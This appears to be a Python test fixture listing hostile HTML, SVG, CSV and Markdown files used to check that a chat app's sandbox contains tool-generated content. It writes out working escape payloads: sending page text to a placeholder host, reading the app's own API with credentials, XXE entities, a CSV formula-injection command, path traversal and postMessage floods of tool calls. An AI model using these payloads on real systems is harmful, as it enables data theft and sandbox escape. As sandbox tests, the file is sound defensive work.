"""Files that a hostile tool would make: each tries one way out of its frame, and tells in `leaks` what went through.

`AWAY` stands for another server, `HOST` for its name and port, `OURS` for this one.
"""

from __future__ import annotations

_TAIL = "<script>setTimeout(() => { document.documentElement.dataset.done = 'yes' }, 300)</script>"


def scripted(script: str, markup: str = "") -> str:
    """A page that runs a script; an exception is a failure of what it tries."""
    body = (
        f"window.leaks = []; (async () => {{ try {{ {script} }} catch (error) {{ window.failed = String(error) }} }})()"
    )
    return f"<!doctype html><html><body>{markup}<script>{body}</script>{_TAIL}"


def marked(markup: str) -> str:
    """A page that tries by its markup alone."""
    return f"<!doctype html><html><body><script>window.leaks = []</script>{markup}{_TAIL}"


HOSTILE: dict[str, tuple[str, str]] = {  # what it tries: the file's name, and its content
    "the parent's elements": ("a.html", scripted("parent.document.title = 'owned'; leaks.push('parent')")),
    "the top's elements": ("a.html", scripted("top.document.body.remove(); leaks.push('top')")),
    "the opener and siblings": (
        "a.html",
        scripted("for (let i = 0; i < parent.length; i++) if (parent[i] !== window)"
                 "{ parent[i].document.title; leaks.push(i) }"),
    ),
    "cookies": ("a.html", scripted("document.cookie = 'ponder_session=x'; leaks.push(document.cookie)")),
    "local storage": ("a.html", scripted("localStorage.setItem('x', 'y'); leaks.push('local')")),
    "session storage": ("a.html", scripted("sessionStorage.setItem('x', 'y'); leaks.push('session')")),
    "databases": (
        "a.html",
        scripted("await new Promise((y, n) => { const r = indexedDB.open('x'); r.onsuccess = y; r.onerror = n; })"
                 "; leaks.push('indexedDB')"),
    ),
    "caches": ("a.html", scripted("await caches.open('x'); leaks.push('caches')")),
    "moving the page": ("a.html", scripted("top.location = 'AWAY/top'; leaks.push('moved')")),
    "moving the page by a link": (
        "a.html", scripted("a.click()", "<a id=a target=_top href=AWAY/link>x</a>"),
    ),
    "moving itself": ("a.html", scripted("location = 'AWAY/self?' + encodeURIComponent(document.body.innerText)")),
    "moving itself to our page": ("a.html", scripted("location = 'OURS/'")),
    "moving itself to data": (
        "a.html", scripted("location = 'data:text/html,<script>fetch(`AWAY/data`)</scr' + 'ipt>'"),
    ),
    "refreshing elsewhere": ("a.html", marked("<meta http-equiv=refresh content='0;url=AWAY/refresh'>")),
    "popups": ("a.html", scripted("if (window.open('AWAY/popup')) leaks.push('popup')")),
    "popups by a link": ("a.html", scripted("a.click()", "<a id=a target=_blank href=AWAY/blank>x</a>")),
    "dialogs": ("a.html", scripted("alert(1); if (confirm(1) || prompt(1)) leaks.push('dialog'); print()")),
    "pictures": (
        "a.html",
        marked("<img src=AWAY/a.png srcset='AWAY/b.png 2x'><img src=OURS/api/chats><input type=image src=AWAY/c>"),
    ),
    "styles": (
        "a.html",
        marked("<style>@import 'AWAY/a.css'; body { background: url(AWAY/b.png); cursor: url(AWAY/c.cur), auto }"
               "</style><link rel=stylesheet href=AWAY/d.css><p style=\"background: image-set('AWAY/e.png' 1x)\">x"),
    ),
    "fonts": (
        "a.html",
        marked("<style>@font-face { font-family: x; src: url(AWAY/x.woff2) } p { font-family: x }</style><p>x"),
    ),
    "scripts": (
        "a.html", scripted("await import('AWAY/a.mjs'); leaks.push('import')", "<script src=AWAY/a.js></script>"),
    ),
    "fetch": (
        "a.html",
        scripted("navigator.sendBeacon('AWAY/beacon', 'x'); const x = new XMLHttpRequest(); x.open('GET', 'AWAY/xhr');"
                 "x.onload = () => leaks.push('xhr'); x.send(); await fetch('AWAY/fetch', { mode: 'no-cors' });"
                 "leaks.push('fetch')"),
    ),
    "our own API": (
        "a.html",
        scripted("const r = await fetch('OURS/api/chats', { credentials: 'include', mode: 'no-cors' });"
                 "leaks.push(await r.text() || 'sent')"),
    ),
    "sockets": (
        "a.html",
        scripted("try { new EventSource('AWAY/events') } catch {} try { new WebTransport('AWAY/') } catch {}"
                 "const s = new WebSocket('AWAY/ws'.replace('http', 'ws')); s.onopen = () => leaks.push('socket')"),
    ),
    "calls between browsers": (
        "a.html",
        scripted("const call = new RTCPeerConnection({ iceServers: [{ urls: 'stun:HOST' }, {"
                 "urls: 'turn:HOST?transport=tcp', username: 'x', credential: 'y' }] }); call.createDataChannel('x');"
                 "await call.setLocalDescription(await call.createOffer())"),
    ),
    "forms": (
        "a.html",
        scripted("f.submit(); f.requestSubmit()", "<form id=f action=AWAY/form method=post><input name=x></form>"),
    ),
    "frames": (
        "a.html",
        marked("<iframe src=AWAY/frame></iframe><object data=AWAY/object></object><embed src=AWAY/embed>"
               "<iframe src=OURS/></iframe><portal src=AWAY/portal></portal>"),
    ),
    "frames of its own": (
        "a.html",
        scripted("const f = document.createElement('iframe');"
                 "f.srcdoc = '<script>fetch(`AWAY/srcdoc`).catch(() => 0)</scr' + 'ipt>';"
                 "document.body.append(f); const g = document.createElement('iframe'); document.body.append(g);"
                 "await g.contentWindow.fetch('AWAY/blank', { mode: 'no-cors' }); leaks.push('blank')"),
    ),
    "javascript addresses": (
        "a.html",
        scripted("parent.location = `javascript:document.title='owned'`; leaks.push('javascript')",
                 "<iframe src=\"javascript:try { parent.parent.document.title = 'owned' } catch {}\"></iframe>"),
    ),
    "hints": (
        "a.html",
        marked("<link rel=prefetch href=AWAY/prefetch><link rel=preload as=script href=AWAY/preload>"
               "<link rel=modulepreload href=AWAY/module><link rel=prerender href=AWAY/prerender>"
               "<link rel=icon href=AWAY/icon><link rel=manifest href=AWAY/manifest>"
               "<link rel=preconnect href=AWAY><link rel=dns-prefetch href=AWAY>"
               '<script type=speculationrules>{"prefetch": [{"source": "list", "urls": ["AWAY/spec"]}]}</script>'),
    ),
    "media": (
        "a.html",
        marked("<video src=AWAY/v.mp4 poster=AWAY/p.png autoplay></video><audio src=AWAY/a.mp3 autoplay></audio>"
               "<video autoplay><source src=AWAY/s.mp4><track default src=AWAY/t.vtt></video>"),
    ),
    "a base": ("a.html", marked("<base href=AWAY/><img src=relative.png><script src=relative.js></script>")),
    "service workers": (
        "a.html", scripted("await navigator.serviceWorker.register('OURS/worker.js'); leaks.push('service worker')"),
    ),
    "workers": (
        "a.html",
        scripted("const code = new Blob([`fetch('AWAY/worker')`], { type: 'text/javascript' });"
                 "const w = new Worker(URL.createObjectURL(code)); w.onmessage = () => leaks.push('worker')"),
    ),
    "downloads": (
        "a.html",
        scripted("a.click(); b.click()",
                 "<a id=a download=x.exe href=data:,x>x</a><a id=b download href=AWAY/file>x</a>"),
    ),
    "floods of messages": (
        "a.html",
        scripted("for (let i = 0; i < 20000; i++) for (const each of [null, i, 'x'.repeat(99), { jsonrpc: '2.0', id: i,"
                 "method: 'tools/call', params: { name: 'python' } }, { type: 'x', data: [[[]]] }])"
                 "top.postMessage(each, '*')"),
    ),
    "devices and permissions": (
        "a.html",
        scripted("navigator.geolocation.getCurrentPosition(() => leaks.push('place')); await Promise.any(["
                 "navigator.clipboard.readText(), navigator.mediaDevices.getUserMedia({ video: true }),"
                 "document.documentElement.requestFullscreen(), Notification.requestPermission().then((x) =>"
                 "x === 'granted' || Promise.reject())]); leaks.push('device')"),
    ),
    "the history": (
        "a.html",
        scripted("for (let i = 0; i < 50; i++) history.pushState({}, '', '#' + i); top.history.back()"),
    ),
    "a drawing with scripts": (
        "a.svg",
        "<svg xmlns='http://www.w3.org/2000/svg' onload='parent.document.title=1'><script>fetch('AWAY/svg')</script>"
        "<foreignObject width='9' height='9'><body xmlns='http://www.w3.org/1999/xhtml'><img src='AWAY/x.png'/>"
        "<script>parent.document.title = 'owned'</script></body></foreignObject></svg>",
    ),
    "a drawing with references": (
        "a.svg",
        "<?xml version='1.0'?><?xml-stylesheet href='AWAY/a.css'?><!DOCTYPE svg [<!ENTITY x SYSTEM 'AWAY/entity'>]>"
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><image href='AWAY/i.png'/>"
        "<use xlink:href='AWAY/u.svg#x'/><feImage href='AWAY/f.png'/><a href='javascript:alert(1)'>"
        "<text y='9'>x</text></a><style>@import 'AWAY/b.css'; text { fill: url(AWAY/c.svg#x) }</style></svg>",
    ),
    "a name out of its folder": ("../../../index.html", scripted("leaks.push(...(origin === 'null' ? [] : [origin]))")),
}  # fmt: skip
LEAVES = {"refreshing elsewhere", "downloads", "moving itself", "moving itself to our page", "moving itself to data"}
PLAIN: dict[str, tuple[str, str]] = {  # nothing of these is a document: what the page itself shows, or nobody
    "a table of elements": ("a.csv", "<img src=AWAY/x onerror=document.title='owned'>,=cmd|' /C calc'!A0\n<script>1,2"),
    "a text of elements": ("a.md", "<script>document.title='owned'</script><img src=AWAY/x.png> ![x](AWAY/y.png)"),
    "a picture that is a page": ("a.png", scripted("parent.document.title = 'owned'")),
    "a page with a double end": ("a.html.txt", scripted("parent.document.title = 'owned'")),
    "a page in bytes": ("a.html", "\0" + scripted("parent.document.title = 'owned'")),
}
